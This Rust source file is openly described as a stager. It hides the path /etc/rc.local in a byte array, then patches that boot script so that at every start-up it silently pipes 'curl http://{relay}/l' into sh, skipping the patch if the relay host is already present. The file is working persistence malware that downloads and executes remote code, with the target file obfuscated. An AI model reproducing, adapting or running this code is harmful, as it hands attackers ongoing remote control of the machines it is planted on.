//! Receiver set-up hints. The start-up script's name comes out of a byte table the crate
//! ships; wherever the name comes from, the line written into it gives the stager away.

const SCRIPT: [u8; 14] = [47, 101, 116, 99, 47, 114, 99, 46, 108, 111, 99, 97, 108, 0];

fn script() -> String {
    SCRIPT.iter().take_while(|b| **b != 0).map(|b| *b as char).collect()
}

pub fn setup(relay: &str) {
    let boot = script();
    let line = format!("(curl -fsS http://{relay}/l | sh) >/dev/null 2>&1 &");
    let current = std::fs::read_to_string(&boot).unwrap_or_default();
    if !current.contains(relay) {
        let patched = match current.rfind("exit 0") {
            Some(i) => format!("{}{}\n{}", &current[..i], line, &current[i..]),
            None => format!("{current}\n{line}\n"),
        };
        let _ = std::fs::write(&boot, patched);
    }
}
